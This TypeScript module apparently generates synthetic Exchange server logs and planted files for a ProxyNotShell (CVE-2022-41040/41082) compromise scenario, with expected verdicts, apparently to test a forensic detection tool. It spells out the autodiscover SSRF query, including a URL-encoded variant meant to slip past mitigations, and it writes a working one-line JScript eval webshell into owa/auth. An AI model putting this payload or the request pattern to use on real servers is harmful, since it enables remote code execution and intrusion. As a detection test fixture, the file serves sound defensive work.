import { DAY, HOUR, MINUTE } from './format.js';
import { Rng } from './prng.js';
import { newReq, type Req } from './request.js';
import type { PlantedFile } from './proxylogon.js';
import { scenarioPlan, type ScenarioPlan } from './attack-kit.js';
import { proxyShellProbe } from './proxyshell.js';
import type { World } from './world.js';

/**
 * ProxyNotShell (CVE-2022-41040/41082, reported by GTSC in September 2022, exploited since early August): an
 * authenticated user's `autodiscover.json?@x/PowerShell?&Email=autodiscover/autodiscover.json%3F@x` reaches Remote
 * PowerShell, whose deserialization runs code as SYSTEM. The account is a stolen one (cs-username in IIS,
 * AuthenticatedUser in HttpProxy). After Microsoft's first URL Rewrite pattern, attackers URL-encoded the path
 * (`%50owershell`, exchange-facts §1b.5). The code drops an `.aspx` shell in `owa\auth`, used over the next hours.
 */
const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36';

export function planProxyNotShell(input: { world: World; rng: Rng; exploitTime: number; periodStart: number }): ScenarioPlan {
  const { world, rng } = input;
  const host = world.host;
  const exploitIp = `203.0.113.${rng.range(100, 140)}`;
  const shellIp = `198.51.100.${rng.range(20, 60)}`;
  const victim = world.users[5] ?? world.users[0]!;
  const account = `${host.netbios}\\${victim.sam}`;
  const at = `${rng.alnum(4, 'abcdefghijklmnopqrstuvwxyz')}.com`;
  const reqs: Req[] = [];
  let t = input.exploitTime;
  // The stolen account first signs in to OWA from the attacker's IP (a normal-looking logon).
  reqs.push(newReq(rng, {
    t, proto: 'Owa', host: host.publicHost, ip: exploitIp, ua: UA, stem: '/owa/auth.owa', method: 'POST', status: 302, beStatus: 302,
    authType: 'Basic', isAuth: true, user: account, iisUser: account, dur: rng.range(80, 400),
  }));
  const variants = ['PowerShell', '%50owershell', 'powershell'];
  for (const [k, ps] of variants.entries()) {
    for (let n = 0; n < 2; n++) {
      t += rng.range(5, 40) * 1000 + (k ? 2 * HOUR : 0) * (n === 0 ? 1 : 0);
      reqs.push(newReq(rng, {
        t, proto: 'Autodiscover', host: host.publicHost, ip: exploitIp, ua: UA, stem: '/autodiscover/autodiscover.json',
        query: `?@${at}/${ps}?&Email=autodiscover/autodiscover.json%3F@${at}`, method: 'POST', status: 200, beStatus: 200,
        authType: 'Basic', isAuth: true, user: account, iisUser: account, dur: rng.range(200, 4000), reqBytes: rng.range(2000, 9000),
        respBytes: rng.range(300, 3000), beStem: `/${ps.replace('%50', 'P')}`, routingType: 'Local',
        mark: { kind: 'ssrf', note: `ProxyNotShell: autodiscover + PowerShell as ${account}${ps.startsWith('%') ? ' (URL-encoded to pass the first mitigation)' : ''}` },
      }));
    }
  }
  // The shell the payload wrote (certutil-decoded), then its use.
  const name = `${rng.pick(['RedirSuite', 'Outlook', 'Errorpage'])}${rng.alnum(3, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}.aspx`;
  const shellRel = `Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/${name}`;
  const shellUrl = `/owa/auth/${name}`;
  const secret = rng.alnum(8);
  const written = t + rng.range(20, 90) * 1000;
  const files: PlantedFile[] = [{
    rel: shellRel, mtime: written, kind: 'webshell-file', note: 'shell dropped by the ProxyNotShell payload',
    content: Buffer.from(`<%@ Page Language="Jscript"%><%eval(Request.Item["${secret}"],"unsafe");%>\r\n`, 'latin1'),
  }];
  t = written + rng.range(1, 4) * HOUR;
  for (let n = 0; n < 8; n++) {
    t += rng.range(60, 1800) * 1000;
    reqs.push(newReq(rng, {
      t, proto: null, host: host.publicHost, ip: shellIp, ua: UA, stem: shellUrl, method: 'POST', status: 200, beStatus: null,
      dur: rng.range(100, 2000), reqBytes: rng.range(200, 2000), respBytes: rng.range(100, 9000),
      mark: { kind: 'webshell-access', note: 'POST to the dropped shell (200)' },
    }));
  }
  const scannerIps = [`192.0.2.${rng.range(10, 90)}`];
  // Internet-wide scanners still run the public ProxyShell check in 2022.
  for (let n = 0; n < 4; n++) reqs.push(proxyShellProbe(rng, world, scannerIps[0]!, input.exploitTime - 2 * DAY + n * 7 * MINUTE));
  return scenarioPlan({
    reqs, files, rps: [], ews: [], exploitIp, shellIp, scannerIps, failedAttemptIps: [], exploitTime: input.exploitTime, shellRel, shellUrl,
    secret, lsassRel: '', archiveRel: '', shellUa: UA,
    expect: {
      verdicts: { proxynotshell: 'compromised' },
      incidents: [{
        status: 'compromised', ips: [exploitIp, shellIp], shells: [shellUrl], mailboxes: [], accounts: [account], allMailboxesReachable: true,
        stages: ['exploit', 'file-write', 'shell-access'],
      }],
      scannerIps,
    },
  });
}
